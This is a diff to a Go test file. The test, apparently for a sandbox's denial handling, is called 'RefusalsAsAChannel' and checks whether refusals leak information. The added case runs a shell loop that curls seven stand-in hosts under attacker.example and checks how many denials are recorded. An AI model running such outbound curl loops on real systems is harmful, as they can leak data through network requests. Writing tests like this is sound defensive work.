@@ -231,6 +231,10 @@ func TestAttack75_RefusalsAsAChannel(t *testing.T) {
 		if len(pinned.Denials) != 1 || pinned.Denials[0].Where != "" || pinned.Denials[0].Code == "" {
 			t.Errorf("%+v", pinned)
 		}
+		number := mustRun(t, e, h.pinShell(`for i in 1 2 3 4 5 6 7; do curl -sS --max-time 10 https://h$i.attacker.example/; done 2>/dev/null; true`))
+		if len(number.Denials) != 1 || number.Denials[0].Count != 1 {
+			t.Errorf("a command that holds values tells a number: %+v", number.Denials)
+		}
 	})
 }
 
